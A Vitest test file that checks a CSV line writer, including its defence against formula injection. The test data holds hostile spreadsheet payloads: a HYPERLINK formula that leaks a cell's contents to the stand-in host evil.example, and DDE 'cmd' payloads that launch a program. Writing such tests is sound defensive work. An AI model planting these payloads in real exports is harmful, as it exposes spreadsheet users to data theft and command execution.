import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/lib/csv.js';

describe('csvLine', () => {
  it('quotes fields with commas, quotes and line breaks, and ends the line in CRLF', () => {
    expect(csvLine(['a', 'Smith, John "Jack"', 'one\ntwo', 42, null])).toBe(
      'a,"Smith, John ""Jack""","one\ntwo",42,\r\n',
    );
  });

  it.each([
    ['=1+2', "'=1+2"],
    [
      '=HYPERLINK("https://evil.example/?d="&C2,"Click for invoice")',
      `"'=HYPERLINK(""https://evil.example/?d=""&C2,""Click for invoice"")"`,
    ],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', `"'\r=1+2"`],
  ])('writes %j as text a spreadsheet will not run', (cell, written) => {
    expect(csvLine([cell])).toBe(`${written}\r\n`);
  });

  it('leaves numbers and number-shaped text as they are', () => {
    expect(csvLine([-5, '+15551234567', '+1 (512) 555-0199', '-40', 'a=b'])).toBe(
      '-5,+15551234567,+1 (512) 555-0199,-40,a=b\r\n',
    );
  });
});
